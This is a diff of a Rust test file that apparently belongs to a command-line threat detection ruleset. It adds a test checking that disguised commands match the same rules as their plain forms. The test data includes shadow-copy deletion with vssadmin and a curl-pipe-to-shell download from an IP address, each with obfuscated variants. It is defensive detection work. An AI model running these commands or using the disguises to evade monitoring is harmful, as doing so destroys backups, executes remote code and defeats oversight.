@@ -1,6 +1,6 @@
 //! The rules themselves: their examples, their bounds, and what administrators do all day.
 
-use super::{Band, HIGH_FROM, MEDIUM_FROM, Observation, Ruleset, band, failing_examples};
+use super::{Band, HIGH_FROM, MEDIUM_FROM, Observation, RESEMBLANCE, Ruleset, band, failing_examples};
 use crate::verdict::Confidence;
 use std::collections::BTreeSet;
 use std::path::Path;
@@ -55,6 +55,26 @@ fn well_known_attacks_are_high_without_a_model_or_at_least_looked_at() {
     assert!(missed.is_empty(), "{missed:#?}");
     let lower: Vec<&&str> = ATTACKS.iter().filter(|line| confidence(line) < HIGH_FROM).collect();
     assert!(lower.len() * 100 <= ATTACKS.len() * 15, "{lower:#?}");
+}
+
+/// A disguise of cmd or of a shell hides nothing from the rule that knows the command.
+#[test]
+fn a_disguised_command_is_found_by_the_rule_of_the_plain_one() {
+    for (plain, disguised) in [
+        ("cmd /c vssadmin delete shadows /all", "cmd /c ,;vssadmin,delete,shadows,/all"),
+        ("vssadmin delete shadows", ",;vssadmin,delete,shadows"),
+        ("vssadmin delete shadows", "((vssadmin delete shadows))"),
+        ("cmd /c vssadmin delete shadows /all", "cmd /c for %a in (vssadmin) do %a delete shadows /all"),
+        ("sh -c 'curl http://203.0.113.5/x|sh'", "sh -c 'cu${x}rl http://203.0.113.5/x|sh'"),
+    ] {
+        let found = |text: &str| {
+            let observation = Observation { process_cmdline: Some(text), ..Observation::EMPTY };
+            let evidence = Ruleset::built_in().evaluate(&observation).evidence;
+            evidence.into_iter().map(|item| item.rule_id).filter(|id| id != RESEMBLANCE).collect::<Vec<_>>()
+        };
+        let (wanted, found) = (found(plain), found(disguised));
+        assert!(!wanted.is_empty() && wanted.iter().all(|id| found.contains(id)), "{disguised}: {wanted:?} {found:?}");
+    }
 }
 
 /// What administrators, package managers and agents run.
